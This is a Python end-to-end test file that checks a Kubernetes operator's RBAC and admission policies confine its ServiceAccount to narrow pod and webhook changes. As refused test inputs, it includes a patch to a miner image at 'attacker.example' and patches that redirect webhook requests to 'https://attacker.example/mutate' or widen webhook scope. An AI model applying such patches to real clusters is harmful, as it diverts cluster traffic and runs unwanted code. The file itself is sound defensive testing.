"""What the installed operator may do to pods and webhook configurations, on the real
API server: RBAC and the pod-rights and webhook-rights admission policies of the
chart, as installed.

Requests are made with `kubectl --as` the installation's ServiceAccount, so they are
judged exactly as the operator's own would be. `kubectl patch` reads the pod before
it patches, so the tests grant that ServiceAccount `get` on pods in their namespace:
a read, which changes nothing of what it may write.
"""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from devtools.builds import ROOT
from devtools.factories import POLICY_LABEL, NodePool, gang_job
from devtools.installed import rendered
from devtools.kubectl import Kubectl
from devtools.operator import OperatorProcess
from devtools.waiting import wait_until

from muster.api.constants import GANG_GATE, POD_GROUP_LABEL
from muster.operator.execution.pods import release_patch, ungate_patch
from muster.operator.execution.uncounted import JOB_TRACKING_FINALIZER, RECOUNT_PATCH, uncount_patch
from muster.scheduler.state.intake import required_terms
from tests.e2e.support.harness import node_selector_terms, pinned_to

pytestmark = pytest.mark.e2e

MANIFESTS = ROOT / "manifests"
NAMESPACE = "muster-system"
OPERATOR = f"system:serviceaccount:{NAMESPACE}:muster-operator"
POLICY = "muster-operator-pod-rights"
WEBHOOK_POLICY = "muster-operator-webhook-rights"
CONFIGURATION = "muster.scheduling.muster.dev"
# A node that does not exist: a released pod stays pending rather than run.
NOWHERE = "no-such-node"


def of_kind(kubectl: Kubectl, directory: str, kind: str) -> list[dict[str, Any]]:
    """The objects of one kind among the rendered manifests of `directory`."""
    documents = rendered(kubectl.kubeconfig, MANIFESTS / directory)
    return [document for document in documents if document["kind"] == kind]


@pytest.fixture(scope="module")
def installed(operator: OperatorProcess, kubectl: Kubectl) -> None:
    """The installation the session's operator runs under (`devtools/installed.py`): its
    ServiceAccount, roles and admission policies, type-checked without warnings."""
    for policy in (POLICY, WEBHOOK_POLICY):

        def checked(policy: str = policy) -> bool:
            found = kubectl.json("get", "validatingadmissionpolicy", policy)
            return "typeChecking" in (found.get("status") or {})

        wait_until(f"the policy {policy} to be type-checked", checked)
        status = kubectl.json("get", "validatingadmissionpolicy", policy)["status"]
        assert not status["typeChecking"].get("expressionWarnings"), status


@pytest.fixture
def as_operator(installed: None, kubectl: Kubectl, namespace: str) -> Kubectl:
    kubectl("create", "role", "read-pods", "--verb=get", "--resource=pods", "-n", namespace)
    kubectl(
        "create", "rolebinding", "read-pods", "--role=read-pods",
        f"--serviceaccount={NAMESPACE}:muster-operator", "-n", namespace,
    )  # fmt: skip
    return kubectl


def gated_pod(name: str, *, member: bool, **spec: Any) -> dict[str, Any]:
    labels = {"app": "trainer"} | ({POD_GROUP_LABEL: "train"} if member else {})
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "labels": labels},
        "spec": {
            "schedulingGates": [{"name": GANG_GATE}],
            "containers": [{"name": "main", "image": "registry.example/trainer:1"}],
            **spec,
        },
    }


def patch_as_operator(
    kubectl: Kubectl, namespace: str, pod: str, patch: Any, kind: str = "strategic"
) -> tuple[bool, str]:
    """(allowed, stderr) of the operator's patch of a pod."""
    result = kubectl(
        "patch", "pod", pod, "-n", namespace, f"--as={OPERATOR}",
        f"--type={kind}", "-p", json.dumps(patch), check=False,
    )  # fmt: skip
    return result.returncode == 0, result.stderr


def settled_version(kubectl: Kubectl, namespace: str, pod: str) -> str:
    """The pod's resourceVersion once kube-scheduler has reported it SchedulingGated
    (its one write of a gated pod), which a release is conditional on."""

    def gated_reported() -> dict[str, Any] | None:
        found: dict[str, Any] = kubectl.json("get", "pod", pod, "-n", namespace)
        conditions = (found.get("status") or {}).get("conditions") or []
        return found if any(c.get("reason") == "SchedulingGated" for c in conditions) else None

    wait_until(f"pod {pod} to be reported SchedulingGated", lambda: gated_reported() is not None)
    settled = gated_reported()
    assert settled is not None
    return str(settled["metadata"]["resourceVersion"])


def refused_by_policy(outcome: tuple[bool, str]) -> bool:
    allowed, stderr = outcome
    return not allowed and f"ValidatingAdmissionPolicy '{POLICY}'" in stderr


def test_the_operator_may_release_a_pod_but_not_change_it_otherwise(
    as_operator: Kubectl, namespace: str
) -> None:
    kubectl = as_operator
    kubectl.apply(gated_pod("member", member=True), namespace)
    for change in (
        {"spec": {"containers": [{"name": "main", "image": "attacker.example/miner:1"}]}},
        {"metadata": {"labels": {"app": "something-else"}}},
        {"metadata": {"labels": {POD_GROUP_LABEL: "another-group"}}},
        {"metadata": {"annotations": {"anything": "at-all"}}},
        {"spec": {"activeDeadlineSeconds": 1}},
        {"spec": {"nodeSelector": {"example.com/zone": "a"}}},
        # The pin is node affinity on the node's name, never a nodeSelector.
        {"spec": {"nodeSelector": {"kubernetes.io/hostname": NOWHERE}}},
    ):
        outcome = patch_as_operator(kubectl, namespace, "member", change)
        assert refused_by_policy(outcome), (change, outcome)

    release = release_patch(NOWHERE, settled_version(kubectl, namespace, "member"))
    assert patch_as_operator(kubectl, namespace, "member", release) == (True, "")
    pod = kubectl.json("get", "pod", "member", "-n", namespace)
    assert pinned_to(pod) == NOWHERE and not pod["spec"].get("nodeSelector")
    assert not pod["spec"].get("schedulingGates")
    assert pod["spec"]["containers"][0]["image"] == "registry.example/trainer:1"


def test_only_its_own_gate_comes_off(as_operator: Kubectl, namespace: str) -> None:
    kubectl = as_operator
    pod = gated_pod("member", member=True)
    pod["spec"]["schedulingGates"].append({"name": "example.com/quota"})
    kubectl.apply(pod, namespace)
    theirs = {"spec": {"schedulingGates": [{"$patch": "delete", "name": "example.com/quota"}]}}
    assert refused_by_policy(patch_as_operator(kubectl, namespace, "member", theirs))
    release = release_patch(NOWHERE, settled_version(kubectl, namespace, "member"))
    assert patch_as_operator(kubectl, namespace, "member", release)[0]
    gates = kubectl.json("get", "pod", "member", "-n", namespace)["spec"]["schedulingGates"]
    assert gates == [{"name": "example.com/quota"}]


def test_only_the_job_tracking_finalizer_of_a_member_comes_off_and_back_on(
    as_operator: Kubectl, namespace: str, pool: NodePool
) -> None:
    """A rollback or preemption takes a member's Job tracking finalizer off before
    it takes the member down, and gives it back when the eviction is refused
    (operator/execution/uncounted.py): exactly those two changes, with the operator's own
    patches; nothing else of the finalizers, and nothing on a pod of no group.

    The pods are a real Job's (the Job controller strips the finalizer from pods no
    Job owns): a gang Job's member, and a plain Job's pod."""
    kubectl = as_operator
    pool.add(gpus=2)
    member_job = gang_job("train", pool, workers=1)
    plain_job = gang_job("plain", pool, workers=1)
    del plain_job["metadata"]["labels"][POLICY_LABEL]
    for job in (member_job, plain_job):
        kubectl.apply(job, namespace)
    member, plain = (bound_pod_of(kubectl, namespace, job) for job in ("train", "plain"))
    for pod in (member, plain):  # a finalizer of someone else's beside the Job's
        add = [{"op": "add", "path": "/metadata/finalizers/-", "value": OTHER_FINALIZER}]
        kubectl("patch", "pod", pod, "-n", namespace, "--type=json", "-p", json.dumps(add))
    assert finalizers_of(kubectl, namespace, member) == [JOB_TRACKING_FINALIZER, OTHER_FINALIZER]

    take_off = [{"op": "remove", "path": "/metadata/finalizers/0"}]
    for wrong in (
        [{"op": "remove", "path": "/metadata/finalizers/1"}],
        [{"op": "add", "path": "/metadata/finalizers/-", "value": "example.com/other"}],
        [{"op": "replace", "path": "/metadata/finalizers",
          "value": [OTHER_FINALIZER, JOB_TRACKING_FINALIZER]}],
        [{"op": "add", "path": "/metadata/finalizers/-", "value": JOB_TRACKING_FINALIZER}],
        [*take_off, {"op": "add", "path": "/metadata/labels/app", "value": "other"}],
    ):  # fmt: skip
        assert refused_by_policy(patch_as_operator(kubectl, namespace, member, wrong, "json"))
    assert refused_by_policy(patch_as_operator(kubectl, namespace, plain, take_off, "json"))

    uncount = uncount_patch(kubectl.json("get", "pod", member, "-n", namespace))
    assert uncount is not None
    assert patch_as_operator(kubectl, namespace, member, uncount, "json") == (True, "")
    assert finalizers_of(kubectl, namespace, member) == [OTHER_FINALIZER]
    assert patch_as_operator(kubectl, namespace, member, RECOUNT_PATCH) == (True, "")
    assert sorted(finalizers_of(kubectl, namespace, member)) == [
        JOB_TRACKING_FINALIZER,
        OTHER_FINALIZER,
    ]
    for pod in (member, plain):  # let the namespace go
        kubectl("patch", "pod", pod, "-n", namespace, "--type=merge",
                "-p", '{"metadata": {"finalizers": null}}')  # fmt: skip


OTHER_FINALIZER = "example.com/keep"


def bound_pod_of(kubectl: Kubectl, namespace: str, job: str) -> str:
    """The name of the Job's one pod, once bound."""
    wait_until(
        f"the pod of {job} bound",
        lambda: any(
            pod["spec"].get("nodeName")
            for pod in kubectl.json("get", "pods", "-n", namespace, "-l", f"job-name={job}")[
                "items"
            ]
        ),
    )
    [pod] = kubectl.json("get", "pods", "-n", namespace, "-l", f"job-name={job}")["items"]
    name: str = pod["metadata"]["name"]
    return name


def finalizers_of(kubectl: Kubectl, namespace: str, pod: str) -> list[str]:
    found: list[str] = kubectl.json("get", "pod", pod, "-n", namespace)["metadata"].get(
        "finalizers", []
    )
    return found


def test_the_operator_may_take_its_gate_off_without_pinning_the_pod(
    as_operator: Kubectl, namespace: str
) -> None:
    """As it does for the pods of a Job whose native field the API server dropped."""
    kubectl = as_operator
    pod = gated_pod("member", member=True)
    pod["spec"]["schedulingGates"].append({"name": "example.com/quota"})
    kubectl.apply(pod, namespace)
    ungate = ungate_patch(settled_version(kubectl, namespace, "member"))
    assert patch_as_operator(kubectl, namespace, "member", ungate) == (True, "")
    ungated = kubectl.json("get", "pod", "member", "-n", namespace)
    assert ungated["spec"]["schedulingGates"] == [{"name": "example.com/quota"}]
    assert pinned_to(ungated) is None


def test_the_pin_narrows_the_pods_own_required_node_affinity_and_nothing_else(
    as_operator: Kubectl, namespace: str
) -> None:
    kubectl = as_operator
    zones = {"key": "example.com/zone", "operator": "In", "values": ["a", "b"]}
    affinity = {
        "nodeAffinity": {
            "requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [{"matchExpressions": [zones]}]
            }
        }
    }
    kubectl.apply(gated_pod("zoned", member=True, affinity=affinity), namespace)
    terms = "/spec/affinity/nodeAffinity/requiredDuringSchedulingIgnoredDuringExecution"
    for wrong in (
        {"op": "add", "path": f"{terms}/nodeSelectorTerms/0/matchExpressions/-",
         "value": {"key": "example.com/other", "operator": "Exists"}},
        {"op": "add", "path": f"{terms}/nodeSelectorTerms/0/matchFields",
         "value": [{"key": "metadata.name", "operator": "NotIn", "values": [NOWHERE]}]},
    ):  # fmt: skip
        assert refused_by_policy(patch_as_operator(kubectl, namespace, "zoned", [wrong], "json"))

    pod = kubectl.json("get", "pod", "zoned", "-n", namespace)
    version = settled_version(kubectl, namespace, "zoned")
    release = release_patch(NOWHERE, version, required_terms(pod["spec"]) or ())
    assert patch_as_operator(kubectl, namespace, "zoned", release) == (True, "")
    pod = kubectl.json("get", "pod", "zoned", "-n", namespace)
    assert pinned_to(pod) == NOWHERE and not pod["spec"].get("schedulingGates")
    (term,) = node_selector_terms(pod)
    assert term["matchExpressions"] == [zones]


def test_the_operator_deletes_only_pods_of_a_pod_group(
    as_operator: Kubectl, namespace: str
) -> None:
    kubectl = as_operator
    kubectl.apply(gated_pod("plain", member=False), namespace)
    kubectl.apply(gated_pod("member", member=True), namespace)
    as_operator_args = ("-n", namespace, f"--as={OPERATOR}", "--wait=false")
    plain = kubectl("delete", "pod", "plain", *as_operator_args, check=False)
    assert plain.returncode != 0 and f"ValidatingAdmissionPolicy '{POLICY}'" in plain.stderr
    assert kubectl("delete", "pod", "member", *as_operator_args, check=False).returncode == 0

    # Evictions (preemption takes plain pods too) keep the pod's own grace period.
    eviction = {
        "apiVersion": "policy/v1",
        "kind": "Eviction",
        "metadata": {"name": "plain", "namespace": namespace},
        "deleteOptions": {"gracePeriodSeconds": 0},
    }
    path = f"/api/v1/namespaces/{namespace}/pods/plain/eviction"
    forced = kubectl(
        "create", "--raw", path, f"--as={OPERATOR}", "-f", "-",
        input=json.dumps(eviction), check=False,
    )  # fmt: skip
    assert forced.returncode != 0 and "grace period" in forced.stderr
    del eviction["deleteOptions"]
    kubectl("create", "--raw", path, f"--as={OPERATOR}", "-f", "-", input=json.dumps(eviction))


def can_i(kubectl: Kubectl, *request: str) -> str:
    return kubectl("auth", "can-i", *request, f"--as={OPERATOR}", check=False).stdout.strip()


def test_the_operator_may_patch_only_its_own_webhook_configurations(
    installed: None, kubectl: Kubectl
) -> None:
    for kind in ("mutatingwebhookconfigurations", "validatingwebhookconfigurations"):
        assert can_i(kubectl, "patch", f"{kind}/{CONFIGURATION}") == "yes"
        assert can_i(kubectl, "patch", f"{kind}/someone-elses") == "no"
        assert can_i(kubectl, "patch", kind) == "no"
        assert can_i(kubectl, "create", kind) == "no"
        assert can_i(kubectl, "delete", f"{kind}/{CONFIGURATION}") == "no"
    assert can_i(kubectl, "patch", "validatingadmissionpolicies/muster-operator-pod-rights") == "no"
    assert can_i(kubectl, "delete", "validatingadmissionpolicybindings") == "no"

    assert can_i(kubectl, "patch", f"validatingadmissionpolicies/{WEBHOOK_POLICY}") == "no"

    # With cert-manager, its cainjector keeps the caBundle: the operator may not even
    # patch its own configurations.
    # The session's operator runs under the base ClusterRole: it comes back after.
    overlay = of_kind(kubectl, "overlays/cert-manager", "ClusterRole")
    kubectl.apply({"apiVersion": "v1", "kind": "List", "items": overlay})
    try:
        for kind in ("mutatingwebhookconfigurations", "validatingwebhookconfigurations"):
            assert can_i(kubectl, "patch", f"{kind}/{CONFIGURATION}") == "no"
            assert can_i(kubectl, "get", f"{kind}/{CONFIGURATION}") == "no"
    finally:
        base = of_kind(kubectl, ".", "ClusterRole")
        kubectl.apply({"apiVersion": "v1", "kind": "List", "items": base})


def patch_configuration(
    kubectl: Kubectl, kind: str, patch: list[dict[str, Any]]
) -> tuple[bool, str]:
    """(allowed, stderr) of the operator's JSON patch of its webhook configuration of
    `kind`, as a dry run: what is allowed is not kept (the session's operator serves
    through it)."""
    result = kubectl(
        "patch", kind, CONFIGURATION, f"--as={OPERATOR}", "--type=json",
        "--dry-run=server", "-p", json.dumps(patch), check=False,
    )  # fmt: skip
    return result.returncode == 0, result.stderr


def refused_by_webhook_rights(outcome: tuple[bool, str]) -> bool:
    allowed, stderr = outcome
    return not allowed and f"ValidatingAdmissionPolicy '{WEBHOOK_POLICY}'" in stderr


def widenings(configuration: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    """What a taken-over operator would change to see, or change, more of the cluster."""
    first = configuration["webhooks"][0]
    url = "https://attacker.example/mutate"
    other = {**first, "name": "more.scheduling.muster.dev"}
    every_namespace = {
        "matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "Exists"}]
    }
    anything = {"name": "anything", "expression": "true"}
    flipped = "Ignore" if first["failurePolicy"] == "Fail" else "Fail"
    return {
        "a rule's operations": [
            {"op": "replace", "path": "/webhooks/0/rules/0/operations", "value": ["*"]}
        ],
        "a rule's resources": [
            {"op": "replace", "path": "/webhooks/0/rules/0/resources", "value": ["*/*"]}
        ],
        "where the requests go": [
            {"op": "add", "path": "/webhooks/0/clientConfig/url", "value": url}
        ],
        "the failure policy": [
            {"op": "replace", "path": "/webhooks/0/failurePolicy", "value": flipped}
        ],
        "the namespace selector": [
            {"op": "add", "path": "/webhooks/0/namespaceSelector", "value": every_namespace}
        ],
        "the match conditions": [
            {"op": "add", "path": "/webhooks/0/matchConditions", "value": [anything]}
        ],
        "a webhook added": [{"op": "add", "path": "/webhooks/-", "value": other}],
        "a webhook removed": [{"op": "remove", "path": "/webhooks/0"}],
        "an annotation": [
            {
                "op": "add",
                "path": "/metadata/annotations",
                "value": {"cert-manager.io/inject-ca-from": "elsewhere/certificate"},
            }
        ],
    }


def test_the_operator_may_change_only_the_ca_bundle_of_its_webhook_configurations(
    installed: None, kubectl: Kubectl
) -> None:
    """RBAC lets it patch its two configurations, for their caBundle; the
    webhook-rights policy refuses any other change of them by its ServiceAccount."""
    for kind in ("mutatingwebhookconfigurations", "validatingwebhookconfigurations"):
        configuration = kubectl.json("get", kind, CONFIGURATION)
        attempts = widenings(configuration)
        widened = attempts["the failure policy"]

        def judged(kind: str = kind, widened: list[dict[str, Any]] = widened) -> bool:
            return refused_by_webhook_rights(patch_configuration(kubectl, kind, widened))

        wait_until(f"the policy {WEBHOOK_POLICY} to judge the operator's patches of {kind}", judged)
        for change, patch in attempts.items():
            outcome = patch_configuration(kubectl, kind, patch)
            assert refused_by_webhook_rights(outcome), (kind, change, outcome)

        # A new bundle for every webhook (one certificate twice, as a renewal lists the
        # old and the new): allowed.
        bundle = base64.b64decode(configuration["webhooks"][0]["clientConfig"]["caBundle"])
        renewed = base64.b64encode(bundle + b"\n" + bundle).decode()
        patch = [
            {"op": "replace", "path": f"/webhooks/{index}/clientConfig/caBundle", "value": renewed}
            for index in range(len(configuration["webhooks"]))
        ]
        allowed, stderr = patch_configuration(kubectl, kind, patch)
        assert allowed, stderr
        # A widening by someone else is not the policy's business: it judges the operator.
        admin = kubectl(
            "patch", kind, CONFIGURATION, "--type=json", "--dry-run=server",
            "-p", json.dumps(widened),
        )  # fmt: skip
        assert admin.returncode == 0


def test_the_operator_evicts_no_pod_of_kube_system(installed: None, kubectl: Kubectl) -> None:
    """The API server judges an eviction by its Eviction object, not by the pod: the
    policy holds its namespace. The probe is a pod of the test's own making."""
    kubectl.apply(gated_pod("system-probe", member=True), "kube-system")
    try:
        eviction = {
            "apiVersion": "policy/v1",
            "kind": "Eviction",
            "metadata": {"name": "system-probe", "namespace": "kube-system"},
        }
        path = "/api/v1/namespaces/kube-system/pods/system-probe/eviction"
        refused = kubectl(
            "create", "--raw", path, f"--as={OPERATOR}", "-f", "-",
            input=json.dumps(eviction), check=False,
        )  # fmt: skip
        assert refused.returncode != 0
        assert "the operator evicts no pod of kube-system" in refused.stderr, refused.stderr
    finally:
        kubectl("delete", "pod", "system-probe", "-n", "kube-system", "--ignore-not-found")
